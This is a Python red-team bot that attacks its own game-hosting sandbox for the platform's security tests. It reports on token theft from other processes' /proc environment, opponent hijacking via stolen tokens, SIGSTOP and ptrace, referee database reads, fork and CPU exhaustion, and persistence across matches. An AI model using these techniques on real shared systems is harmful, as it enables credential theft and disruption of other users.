"""A hosted bot that attacks the platform, then (when it can) plays its match honestly.

``python evil_bot.py ATTACK [ATTACK ...]``: each attack prints one line to the captured output,
``ATTACK <name>: succeeded <detail>`` or ``ATTACK <name>: blocked <detail>``; the red-team tests
(tests/security/) read those lines from the match's logs. Every attack is bounded and stops by
itself within seconds. Nothing here ever sends traffic outside the loopback network: the outside
connection is attempted only when the machine has no route at all (inside a network namespace),
where it must fail at once with "Network is unreachable".

Attacks: procs (other processes' environment and command lines), steal (play the opponent's seat
with its token), stop (SIGSTOP the opponent), ptrace (attach to the opponent), referee_env (read
the referee's environment), store (open the referee's store and read seeds), net (outside TCP and
the referee's own TCP listener), write (a file outside the bot's sandbox), shm (a shared anonymous
mapping over the memory limit), forks (a bounded fork loop), setsid (a child in its own session
that tries to outlive the match), cpu (burn CPU past the limit), reuse (connect twice with its own
token), carry (leave marks everywhere for a twin match, look for an earlier one's).
"""
from __future__ import annotations

import builtins
import contextlib
import ctypes
import mmap
import os
import signal
import socket
import sys
import time

#: A zygote that ran bot code before forking the match would let every later match inherit
#: whatever that code set up (a shared mapping, a thread): the bot can tell (the first run of this
#: file's top level leaves a mark in ``builtins``). True when it already ran in this memory.
RAN_BEFORE = "_evil_top_level_ran" in builtins.__dict__
builtins.__dict__["_evil_top_level_ran"] = True

SECRET_KEYS = ("ARENA_TOKEN", "ARENA_ORGANIZER_TOKEN", "ARENA_HOME", "ARENA_DB_URL")


def report(name: str, ok: bool, detail: str) -> None:
    print(f"ATTACK {name}: {'succeeded' if ok else 'blocked'} {detail}", flush=True)


def _environ(pid: int) -> dict[str, str]:
    with open(f"/proc/{pid}/environ", "rb") as f:
        raw = f.read()
    out = {}
    for item in raw.split(b"\0"):
        k, _, v = item.partition(b"=")
        if k:
            out[k.decode(errors="replace")] = v.decode(errors="replace")
    return out


def _pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def _opponents() -> list[tuple[int, dict[str, str]]]:
    """Other hosted seats of this match that this process can see (pid, environment)."""
    me = os.environ.get("ARENA_SEAT")
    found = []
    for pid in _pids():
        with contextlib.suppress(OSError):
            env = _environ(pid)
            if "ARENA_TOKEN" in env and env.get("ARENA_SEAT") != me:
                found.append((pid, env))
    return found


def attack_procs() -> None:
    seen = {}
    cmdlines = 0
    for pid in _pids():
        with contextlib.suppress(OSError):
            env = _environ(pid)
            for k in SECRET_KEYS:
                if k in env and env[k] != os.environ.get(k):
                    seen[k] = pid
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as f:
            data = f.read()
            if b"hosted_" in data or b"ARENA_TOKEN" in data:
                cmdlines += 1
    visible = len(_pids())
    report("procs", bool(seen) or cmdlines > 0,
           f"secrets {sorted(seen)} in others' environment, {cmdlines} command lines with a token; "
           f"{visible} other processes visible")


def attack_own_env() -> None:
    """What the platform handed this process: anything beyond the allow-list is a leak."""
    leaked = sorted(k for k in os.environ if k in SECRET_KEYS[1:]
                    or k in ("ARENA_BROKER_URL", "ARENA_REFEREE_KEY")
                    or k.startswith("EVIL_REFEREE_SECRET"))
    report("own_env", bool(leaked),
           f"leaked {leaked}" if leaked else f"{len(os.environ)} variables, none secret")


def attack_stop() -> None:
    hit = []
    for pid, _env in _opponents():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
            hit.append(pid)
    report("stop", bool(hit), f"stopped {hit}" if hit else "no opponent process to signal")
    for pid in hit:  # let it go again: the test only needs to know it could
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGCONT)


def attack_ptrace() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    PTRACE_ATTACH, PTRACE_DETACH = 16, 17
    ok = []
    targets = [pid for pid, _ in _opponents()] or [1]
    for pid in targets:
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            ok.append(pid)
            with contextlib.suppress(ChildProcessError):
                os.waitpid(pid, 0)
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    err = os.strerror(ctypes.get_errno())
    report("ptrace", bool(ok and targets != [1]), f"attached to {ok}" if ok else f"{targets}: {err}")


def attack_steal() -> None:
    opp = _opponents()
    if not opp:
        report("steal", False, "no opponent token visible")
        return
    pid, env = opp[0]
    os.kill(pid, signal.SIGSTOP)  # it must not connect first
    token, address = env["ARENA_TOKEN"], env.get("ARENA_REFEREE", os.environ.get("ARENA_REFEREE", ""))
    from bots.random_bot import RandomBot
    from bots.sdk.client import BotRefused, run

    try:
        stats = run(lambda start: RandomBot(1), address, token, give_up_s=3.0, reconnect=False, once=True)
        report("steal", stats.decisions > 0,
               f"played seat {env.get('ARENA_SEAT')} for {stats.decisions} decisions")
    except (BotRefused, Exception) as exc:  # noqa: BLE001
        report("steal", False, f"refused: {exc}")
    finally:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGCONT)


def attack_referee_env() -> None:
    found = {}
    for pid in [os.getppid(), *_pids()]:
        with contextlib.suppress(OSError):
            env = _environ(pid)
            for k in ("ARENA_ORGANIZER_TOKEN", "ARENA_HOME", "ARENA_DB_URL"):
                if env.get(k):
                    found[k] = env[k]
    report("referee_env", bool(found), f"read {sorted(found)}" if found else "no referee environment visible")
    if found.get("ARENA_HOME"):
        os.environ["EVIL_STORE_HOME"] = found["ARENA_HOME"]


def attack_store() -> None:
    """Open the store (from the referee's environment, else the path a guesser would try)."""
    import sqlite3

    home = os.environ.get("EVIL_STORE_HOME") or os.environ.get("EVIL_GUESS_HOME", "")
    path = os.path.join(home, "referee.db") if home else ""
    if not home:
        report("store", False, "no store path known")
        return
    try:
        with open(path, "rb") as f:
            f.read(16)
        conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        rows = conn.execute("select name from referee_bots").fetchall()
        report("store", True, f"read {path}: {len(rows)} registered bots")
    except (OSError, sqlite3.Error) as exc:
        report("store", False, f"{path}: {exc}")


def _has_route() -> bool:
    try:
        with open("/proc/net/route") as f:
            return len(f.read().splitlines()) > 1
    except OSError:
        return False


def attack_net() -> None:
    port = int(os.environ.get("EVIL_REFEREE_TCP_PORT", "0") or 0)
    if port:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2):
                report("net_referee_tcp", True, f"connected to 127.0.0.1:{port}")
        except OSError as exc:
            report("net_referee_tcp", False, f"127.0.0.1:{port}: {exc.strerror or exc}")
    if _has_route():
        # a real route out exists: never send traffic, the presence of the route is the finding
        report("net_outside", True, "the machine's routes are visible (no connection attempted)")
        return
    try:
        with socket.create_connection(("192.0.2.1", 9), timeout=2):  # TEST-NET-1, never routed
            report("net_outside", True, "connected to 192.0.2.1")
    except OSError as exc:
        report("net_outside", False, f"192.0.2.1:9: {exc.strerror or exc}")


def attack_write() -> None:
    target = os.environ.get("EVIL_WRITE_TO", "/var/tmp")
    path = os.path.join(target, f"evil-{os.getpid()}.txt")
    try:
        with open(path, "w") as f:
            f.write("written from a hosted bot\n")
        report("write", True, f"wrote {path}")
    except OSError as exc:
        report("write", False, f"{path}: {exc.strerror}")


def attack_shm() -> None:
    size = int(os.environ.get("EVIL_SHM_MB", "256")) << 20
    m = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for off in range(0, size, 4096):
        m[off] = 1
    report("shm", True, f"touched {size >> 20} MiB of shared memory")
    m.close()


def attack_forks() -> None:
    limit = int(os.environ.get("EVIL_FORKS", "300"))
    kids = []
    err = ""
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError as exc:
            err = exc.strerror or str(exc)
            break
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        kids.append(pid)
    report("forks", len(kids) >= limit, f"{len(kids)} children" + (f", then: {err}" if err else ""))
    for pid in kids:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0)


def attack_setsid() -> None:
    """A grandchild in its own session, named so the test can look for it after the match."""
    name = os.environ.get("EVIL_SURVIVOR_NAME", "arena-survivor")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            libc = ctypes.CDLL(None)
            libc.prctl(15, name.encode()[:15], 0, 0, 0)  # PR_SET_NAME: visible in /proc/PID/comm
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            time.sleep(60)  # bounded: gone by itself within a minute whatever happens
            os._exit(0)
        os._exit(0)
    report("setsid", True, f"left a survivor named {name}")


def attack_cpu() -> None:
    t0 = time.process_time()
    limit = float(os.environ.get("EVIL_CPU_S", "30"))
    x = 0
    while time.process_time() - t0 < limit:
        x += 1
    report("cpu", True, f"burned {limit:g}s of CPU")


def attack_reuse() -> None:
    """Connect a second stream with this seat's own token once the first one is playing."""
    import threading

    from bots.random_bot import RandomBot
    from bots.sdk.client import BotRefused, run

    token, address = os.environ.get("ARENA_TOKEN", ""), os.environ.get("ARENA_REFEREE", "")

    def second() -> None:
        time.sleep(0.5)
        try:
            run(lambda start: RandomBot(2), address, token, give_up_s=2.0, reconnect=False, once=True)
            report("reuse", True, "a second stream was accepted")
        except BotRefused as exc:
            report("reuse", False, f"refused: {exc}")
        except Exception as exc:  # noqa: BLE001
            report("reuse", False, f"failed: {type(exc).__name__}")

    threading.Thread(target=second, daemon=True).start()


def attack_persist() -> None:
    """Look for what an earlier match's bot left in the scratch space, then leave something."""
    marker = os.path.join(os.environ.get("HOME", "/tmp"), "evil-was-here")
    found = os.path.exists(marker)
    with open(marker, "w") as f:
        f.write(str(os.getpid()))
    report("persist", found, "found an earlier match's file" if found else "scratch space is fresh")


CARRY_NAME = "evil-carry"
CARRY_SOCKET = "\0evil-carry"  # an abstract unix socket: no file, only a network namespace holds it


def _carry_dirs() -> dict[str, str]:
    return {"cwd": os.getcwd(), "tmp": "/tmp", "home": os.environ.get("HOME", "/tmp"), "shm": "/dev/shm",
            "var_tmp": "/var/tmp"}


def _carry_found() -> dict[str, str | None]:
    """What an earlier bot left at each place (None: nothing)."""
    found: dict[str, str | None] = {}
    for where, d in _carry_dirs().items():
        try:
            with open(os.path.join(d, CARRY_NAME)) as f:
                found[where] = f.read()[:80]
        except OSError:
            found[where] = None
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(CARRY_SOCKET)
            found["abstract_socket"] = s.recv(80).decode(errors="replace") or "connected"
    except OSError:
        found["abstract_socket"] = None
    return found


def _carry_serve(mark: str) -> None:
    """A child in its own session holding the abstract socket, trying to outlive the match (60 s)."""
    if os.fork():
        time.sleep(0.3)  # let it bind
        return
    try:
        os.setsid()
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind(CARRY_SOCKET)
        srv.listen(4)
        srv.settimeout(1.0)
        end = time.monotonic() + 60
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                conn, _ = srv.accept()
                conn.sendall(mark.encode())
                conn.close()
    finally:
        os._exit(0)


def attack_carry() -> None:
    """One half of a paired deal leaves what it knows everywhere it can write (cwd, /tmp, $HOME,
    /dev/shm, /var/tmp, an abstract unix socket held by a lingering child); the other half (seats
    swapped) looks in every place. ``carry_<place>``: succeeded = an earlier bot's mark was found;
    ``carry_left`` lists where this bot could leave one, ``carry_selftest`` that the search finds
    its own marks (the check is not blind)."""
    found = _carry_found()
    for where, what in found.items():
        report(f"carry_{where}", what is not None, f"found {what!r}" if what is not None else "nothing found")
    mark = f"seat {os.environ.get('ARENA_SEAT')} pid {os.getpid()} was here"
    left = []
    for where, d in _carry_dirs().items():
        with contextlib.suppress(OSError), open(os.path.join(d, CARRY_NAME), "w") as f:
            f.write(mark)
            left.append(where)
    with contextlib.suppress(OSError):
        _carry_serve(mark)
    again = _carry_found()
    left_socket = again.get("abstract_socket") == mark
    print(f"ATTACK carry_left: {' '.join(left + (['abstract_socket'] if left_socket else []))}", flush=True)
    seen = [w for w in left if again.get(w) == mark]
    report("carry_selftest", seen == left and left_socket,
           f"found its own marks at {seen}, socket {left_socket}")


def attack_import_roots() -> None:
    """The PYTHONPATH names the directories the platform's packages come from (a checkout's root, say):
    read what else lies there (the project file, the git directory, the store's code, a local store)."""
    roots = [r for r in os.environ.get("PYTHONPATH", "").split(os.pathsep) if r]
    found = []
    for root in roots:
        for name in ("pyproject.toml", ".git", "arena", ".arena", "README.md"):
            path = os.path.join(root, name)
            if os.path.exists(path):
                found.append(path)
    report("import_roots", bool(found),
           f"found {found}" if found else f"nothing beside the packages in {roots}")


def attack_zygote_import() -> None:
    report("zygote_import", RAN_BEFORE, "this bot's code ran in a zygote before the match" if RAN_BEFORE
           else "this bot's code first ran in its own match")


def attack_crash() -> None:
    sys.stderr.write("evil bot crashes on purpose\n")
    sys.stderr.flush()
    os._exit(3)


def attack_suicide() -> None:
    os.kill(os.getpid(), signal.SIGKILL)


def attack_delay() -> None:
    """Wait before connecting (the token-over-TCP test reads the token meanwhile)."""
    time.sleep(float(os.environ.get("EVIL_DELAY_S", "4")))


ATTACKS = {name[7:]: fn for name, fn in globals().items() if name.startswith("attack_")}


#: Attacks made while the match is under way (at the evil seat's 30th decision), so the honest
#: seat has already played: the match must still end properly for it.
IN_MATCH = ("shm", "forks", "cpu", "crash", "suicide", "setsid")


def run_attack(name: str) -> None:
    try:
        ATTACKS[name]()
    except Exception as exc:  # noqa: BLE001 - an attack that crashed was blocked by something
        report(name, False, f"{type(exc).__name__}: {exc}")


def main() -> int:
    names = sys.argv[1:]
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        print(f"unknown attack(s) {unknown}; known: {sorted(ATTACKS)}", file=sys.stderr)
        return 2
    for name in names:
        if name not in IN_MATCH:
            run_attack(name)
    # then play (honestly, apart from the in-match attacks), so the other seat's match can go on
    from bots.random_bot import RandomBot
    from bots.sdk.client import run

    later = [n for n in names if n in IN_MATCH]

    class Evil(RandomBot):
        decisions = 0

        def act(self, request):
            Evil.decisions += 1
            if Evil.decisions == 30:
                for name in later:
                    run_attack(name)
            return super().act(request)

    run(lambda start: Evil(7), give_up_s=5.0)
    if "reuse" in names:
        time.sleep(1.0)
    return 0


if __name__ == "__main__":
    sys.exit(main())
